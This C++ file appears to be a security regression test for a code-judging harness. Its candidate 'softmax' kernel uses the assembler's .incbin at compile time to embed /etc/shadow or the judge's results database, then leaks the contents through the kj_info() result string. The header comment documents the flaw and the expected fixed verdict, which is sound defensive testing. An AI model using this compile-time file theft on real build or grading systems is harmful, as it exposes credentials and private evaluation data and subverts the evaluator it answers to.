// Attack (reading the judge's files at compile time): the sandbox guards the worker, but the
// candidate's source is compiled by g++ (and gas) running as the controller's user, with its
// environment and its file access. `.incbin` makes the assembler embed any file it can read into
// the shared object; `__has_include` picks one that exists. First choice: the results store
// (~/.local/share/kjudge/kjudge.db: every past verdict, candidate and baseline figure); else
// /etc/shadow (readable only by root: proof that the compiler reads what the worker may not).
// kj_info() returns the embedded file's printable strings (up to ~3 KB), so the file's contents
// land in the result JSON (candidate.info) and in the store's row for this evaluation. The kernel
// itself is an honest softmax: nothing else about it is wrong.
// (/proc/self/environ of the compiler, which carries the controller's environment, cannot be
// embedded this way: /proc files report size 0 and both `.incbin` and `#include` read 0 bytes.)
// Pre-fix (b5c5f0e): accepted (ok_not_faster with --no-timing), and the result's candidate.info
// holds /etc/shadow's lines ("root:*:20228:0:99999:7:::|daemon:*:..."; on a machine with a
// store at the default path, the store's strings instead).
// Expected after the fix: the compiler runs in a sandbox that reads only the toolchain, the
// candidate and the ABI headers, with a clean environment: `.incbin` of either file fails,
// verdict compile_error.
#include <cmath>
#include <cstddef>

#include "kjudge/candidate.h"

#if __has_include("/root/.local/share/kjudge/kjudge.db")
#define KJ_LOOT "/root/.local/share/kjudge/kjudge.db"
#else
#define KJ_LOOT "/etc/shadow"
#endif

// The file's bytes between two symbols, in .rodata.
asm(".section .rodata\n"
    ".global kj_loot_begin\n"
    ".global kj_loot_end\n"
    ".hidden kj_loot_begin\n"
    ".hidden kj_loot_end\n"
    "kj_loot_begin:\n"
    ".incbin \"" KJ_LOOT "\"\n"
    "kj_loot_end:\n"
    ".byte 0\n"
    ".previous\n");
extern "C" const unsigned char kj_loot_begin[], kj_loot_end[];

KJ_EXPORT const char* kj_info(void) {
  // "family=...;notes=<file>: <printable runs of 4+ characters, '|'-separated>"
  static char out[3500];
  size_t o = 0;
  auto put = [&](char c) {
    if (o + 1 < sizeof out) out[o++] = c;
  };
  for (const char* p = "family=softmax;notes=" KJ_LOOT ": "; *p; ++p) put(*p);
  const unsigned char* run = nullptr;
  for (const unsigned char* p = kj_loot_begin; p <= kj_loot_end && o + 2 < sizeof out; ++p) {
    const bool printable = p < kj_loot_end && *p >= 0x20 && *p < 0x7f && *p != ';';
    if (printable && run == nullptr) run = p;
    if (!printable && run != nullptr) {
      if (p - run >= 4) {
        for (const unsigned char* q = run; q < p; ++q) put(static_cast<char>(*q));
        put('|');
      }
      run = nullptr;
    }
  }
  out[o] = 0;
  return out;
}

KJ_EXPORT int kj_run(const kj_args* a) {
  const int64_t m = a->inputs[0].shape[0], n = a->inputs[0].shape[1];
  const auto* x = static_cast<const float*>(a->inputs[0].data);
  auto* y = static_cast<float*>(a->outputs[0].data);
  for (int64_t i = 0; i < m; ++i) {
    float mx = -INFINITY;
    for (int64_t j = 0; j < n; ++j) mx = std::fmax(mx, x[i * n + j]);
    float s = 0;
    for (int64_t j = 0; j < n; ++j) s += (y[i * n + j] = std::exp(x[i * n + j] - mx));
    const float inv = 1.0f / s;
    for (int64_t j = 0; j < n; ++j) y[i * n + j] *= inv;
  }
  return 0;
}
